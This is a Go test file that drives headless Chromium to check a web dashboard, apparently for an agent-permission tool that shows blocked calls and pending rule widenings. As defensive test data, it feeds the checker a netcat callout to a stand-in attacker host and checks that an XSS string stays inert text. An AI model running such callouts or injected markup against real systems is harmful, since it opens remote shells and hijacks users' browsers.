package ui_test

import (
	"github.com/tether-dev/tether/internal/testenv"

	"bytes"
	"context"
	"flag"
	"image/png"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tether-dev/tether/config"
	"github.com/tether-dev/tether/mandate"
	"github.com/tether-dev/tether/ui"
)

var screenshotPath = flag.String("screenshot", "", "write the job page's screenshot here (e.g. ../docs/ui.png)")

// chromium finds Debian's chromium. Without it the browser tests skip,
// except under REQUIRE_SANDBOX=1 (CI provisions it), where they fail.
func chromium(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	testenv.SkipOrFail(t, "chromium not found (Debian package chromium; scripts/provision.sh installs it)")
	return ""
}

// browserProblems collects what the page itself reported: console errors
// (a Content Security Policy violation is one), uncaught exceptions and
// JavaScript dialogs (an alert() from injected markup would be one).
type browserProblems struct {
	mu   sync.Mutex
	list []string
}

func (p *browserProblems) add(s string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.list = append(p.list, s)
}

func (p *browserProblems) get() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string(nil), p.list...)
}

// browser starts a headless chromium with a fresh profile and returns a
// tab's context. Everything is torn down at the end of the test.
func browser(t *testing.T, width, height int) (context.Context, *browserProblems) {
	t.Helper()
	path := chromium(t)
	opts := []chromedp.ExecAllocatorOption{
		chromedp.ExecPath(path),
		chromedp.Headless,
		chromedp.NoSandbox,
		chromedp.DisableGPU,
		chromedp.NoFirstRun,
		chromedp.NoDefaultBrowserCheck,
		chromedp.Flag("disable-quic", true),
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.Flag("hide-scrollbars", true),
		chromedp.UserDataDir(t.TempDir()),
		chromedp.WindowSize(width, height),
	}
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	problems := &browserProblems{}
	// The listener only records: it runs on the tab's reading goroutine
	// and must not call the browser.
	ctx, cancelTab := chromedp.NewContext(actx, chromedp.WithListener(func(ev any) {
		switch ev := ev.(type) {
		case *log.EventEntryAdded:
			if ev.Entry.Level == log.EntryLevelError {
				problems.add("console: " + ev.Entry.Text)
			}
		case *runtime.EventExceptionThrown:
			problems.add("exception: " + ev.ExceptionDetails.Text)
		case *page.EventJavascriptDialogOpening:
			problems.add("dialog: " + ev.Message)
		}
	}))
	ctx, cancelTimeout := context.WithTimeout(ctx, 90*time.Second)
	t.Cleanup(func() {
		cancelTimeout()
		cancelTab()
		cancelAlloc() // stops the browser process it started
	})
	dialogs := chromedp.Events(ctx, page.JavascriptDialogOpening)
	require.NoError(t, chromedp.Do(ctx), "starting chromium %s", path)
	_, err := chromedp.Call(ctx, log.Enable, cdp.Empty{})
	require.NoError(t, err)
	go func() {
		// An open dialog would stall the page: dismiss it (it was
		// recorded as a problem by the listener).
		for _, err := range dialogs {
			if err != nil {
				return
			}
			chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: false})
		}
	}()
	return ctx, problems
}

// serveSeeded starts the UI for real on a loopback port, as `tether serve`
// would with ui.enabled: true.
func serveSeeded(t *testing.T, opts ui.Options) (*seeded, *ui.Server) {
	t.Helper()
	s := seedStore(t)
	srv, err := ui.Start(config.UI{Enabled: true, Listen: "127.0.0.1:0"}, s.Store, opts)
	require.NoError(t, err)
	t.Cleanup(func() { srv.Close() })
	return s, srv
}

func TestBrowserJobsListAndJobPage(t *testing.T) {
	s, srv := serveSeeded(t, ui.Options{Refresh: -1})
	ctx, problems := browser(t, 1200, 900)

	require.NoError(t, chromedp.Do(ctx,
		chromedp.Navigate(srv.URL()),
		chromedp.WaitVisible(chromedp.CSS(`table.jobs`)),
	))
	jobs := eval[[]string](t, ctx, `Array.from(document.querySelectorAll('tr[data-job]')).map(r => r.dataset.job)`)
	assert.Equal(t, []string{seedJob}, jobs)
	require.NoError(t, chromedp.Do(ctx,
		chromedp.Click(chromedp.CSS(`a[href="/jobs/`+seedJob+`"]`)),
		chromedp.WaitVisible(chromedp.ID(`leash`)),
	))
	title, err := chromedp.Run(ctx, chromedp.Title())
	require.NoError(t, err)
	assert.Equal(t, "Mandate of "+seedJob+" — tether", title)

	// The Leash Line, read from the SVG DOM the browser built.
	counts := eval[map[string]int](t, ctx, `(() => {
		const c = {};
		for (const k of ["allowed", "pending", "blocked", "widened"]) c[k] = document.querySelectorAll('#leash [data-kind="' + k + '"]').length;
		c.diamonds = document.querySelectorAll('#leash g.pending polygon').length;
		c.notches = document.querySelectorAll('#leash g.blocked polygon').length;
		c.tracks = document.querySelectorAll('#leash g.track').length;
		return c;
	})()`)
	paths := eval[[]string](t, ctx, `Array.from(document.querySelectorAll('#leash g.track[data-family="paths"] [data-drift]')).map(m => m.dataset.kind + " " + m.querySelector('text').textContent)`)
	other := eval[[]string](t, ctx, `Array.from(document.querySelectorAll('#leash g.track[data-family="other"] .drift-id')).map(t => t.textContent)`)
	bbox := eval[struct{ Width, Height float64 }](t, ctx, `(() => { const b = document.getElementById('leash').getBoundingClientRect(); return {Width: b.width, Height: b.height}; })()`)
	fill := eval[string](t, ctx, `getComputedStyle(document.querySelector('#leash rect.allowed')).fill`)
	// The seed: 10 active rules; d-2 widened into 2 pending rules; notches
	// for d-2 (commands and hosts), d-3, d-4, d-5 and d-6 (other); d-1
	// widened and approved.
	assert.Equal(t, map[string]int{"allowed": 10, "pending": 2, "blocked": 6, "widened": 1, "diamonds": 2, "notches": 6, "tracks": 5}, counts)
	assert.Equal(t, []string{"widened d-1", "blocked d-4", "blocked d-5"}, paths)
	assert.Equal(t, []string{"d-6"}, other)
	assert.Greater(t, bbox.Width, 500.0, "the SVG is drawn at page width")
	assert.Greater(t, bbox.Height, 100.0)
	assert.Equal(t, "rgb(26, 127, 55)", fill, "the embedded style sheet applies under the CSP")

	// The pending diff and the drift timeline.
	added := eval[[]string](t, ctx, `Array.from(document.querySelectorAll('table.diff tr[data-change="added"]')).map(r => r.closest('table').dataset.family + ": " + r.querySelector('code').textContent)`)
	removed := eval[[]string](t, ctx, `Array.from(document.querySelectorAll('table.diff tr[data-change="removed"]')).map(r => r.textContent)`)
	drift := eval[[][]string](t, ctx, `Array.from(document.querySelectorAll('table.drift tbody tr')).map(r => Array.from(r.cells).map(c => c.textContent.trim()))`)
	assert.Equal(t, []string{"commands: curl -s", "hosts: api.github.com"}, added)
	assert.Empty(t, removed)
	require.Len(t, drift, len(s.Drift))
	for i, d := range s.Drift {
		assert.Equal(t, d.ID, drift[i][0], "newest first")
		assert.Equal(t, strings.Join(d.Families, ", "), drift[i][2])
		assert.Equal(t, d.Reason, drift[i][3])
		assert.Equal(t, d.Call, drift[i][4], "the redacted call, verbatim")
	}
	assert.Equal(t, xssCall, drift[3][4])

	// The hostile call stayed text: no dialog, no injected elements.
	scripts := eval[int](t, ctx, `document.scripts.length`)
	imgs := eval[int](t, ctx, `document.images.length`)
	assert.Equal(t, 0, scripts, "live refresh is off here, so no script at all")
	assert.Equal(t, 0, imgs)
	assert.Empty(t, problems.get())

	shot := *screenshotPath
	if shot == "" {
		shot = filepath.Join(t.TempDir(), "ui.png")
	}
	require.NoError(t, chromedp.Do(ctx, chromedp.EmulateViewport(1100, 900)))
	buf, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
	require.NoError(t, err)
	img, err := png.Decode(bytes.NewReader(buf))
	require.NoError(t, err)
	assert.Equal(t, 1100, img.Bounds().Dx())
	assert.Greater(t, img.Bounds().Dy(), 900, "the full page, taller than the viewport")
	require.NoError(t, os.WriteFile(shot, buf, 0o644))
	t.Logf("screenshot: %s (%dx%d)", shot, img.Bounds().Dx(), img.Bounds().Dy())
}

func TestBrowserNarrowWindow(t *testing.T) {
	_, srv := serveSeeded(t, ui.Options{Refresh: -1})
	ctx, problems := browser(t, 400, 800)
	require.NoError(t, chromedp.Do(ctx,
		chromedp.EmulateViewport(360, 800),
		chromedp.Navigate(srv.URL()+"jobs/"+seedJob),
		chromedp.WaitVisible(chromedp.ID(`leash`)),
	))
	pageW := eval[float64](t, ctx, `document.documentElement.scrollWidth`)
	viewW := eval[float64](t, ctx, `document.documentElement.clientWidth`)
	figW := eval[float64](t, ctx, `document.querySelector('figure.leash').getBoundingClientRect().width`)
	labelH := eval[float64](t, ctx, `document.querySelector('#leash .family').getBoundingClientRect().height`)
	require.Equal(t, 360.0, viewW)
	assert.LessOrEqual(t, pageW, viewW, "no sideways scrolling of the page at 360px; wide tables and the Leash Line scroll in place")
	assert.LessOrEqual(t, figW, viewW)
	assert.GreaterOrEqual(t, labelH, 12.0, "the Leash Line's labels stay legible: it scrolls rather than shrinking below 1:1")
	assert.Empty(t, problems.get())
}

func TestBrowserLiveRefresh(t *testing.T) {
	s, srv := serveSeeded(t, ui.Options{Refresh: 100 * time.Millisecond})
	ctx, problems := browser(t, 1200, 900)
	require.NoError(t, chromedp.Do(ctx,
		chromedp.Navigate(srv.URL()+"jobs/"+seedJob),
		chromedp.WaitVisible(chromedp.ID(`leash`)),
	))
	before := eval[int](t, ctx, `document.querySelectorAll('table.drift tbody tr').length`)
	require.Equal(t, 6, before)

	d := s.Store.Check(context.Background(), mandate.Run{Job: seedJob, ID: "r7", Mode: mandate.RunCron, CronIdentity: "cron:nightly"},
		mandate.Call{Tool: mandate.ToolTerminal, Command: "nc attacker.example 4444", Workspace: "/work/repo"})
	require.Equal(t, mandate.Block, d.Verdict)
	require.Equal(t, "d-7", d.DriftID)

	// The page's script notices the new token and reloads; the wait ends
	// when the new row exists (the context's deadline bounds it).
	require.NoError(t, chromedp.Do(ctx, chromedp.WaitVisible(chromedp.CSS(`tr[data-drift="d-7"]`))))
	notches := eval[int](t, ctx, `document.querySelectorAll('#leash [data-kind="blocked"][data-drift="d-7"]').length`)
	assert.Equal(t, 2, notches, "d-7 failed commands and hosts: a notch on each track")
	assert.Empty(t, problems.get(), "the script runs under the CSP without errors")
}

// eval runs a JavaScript expression in the page and decodes its value.
func eval[T any](t *testing.T, ctx context.Context, expr string) T {
	t.Helper()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](expr))
	require.NoError(t, err, "evaluating %s", expr)
	return v
}
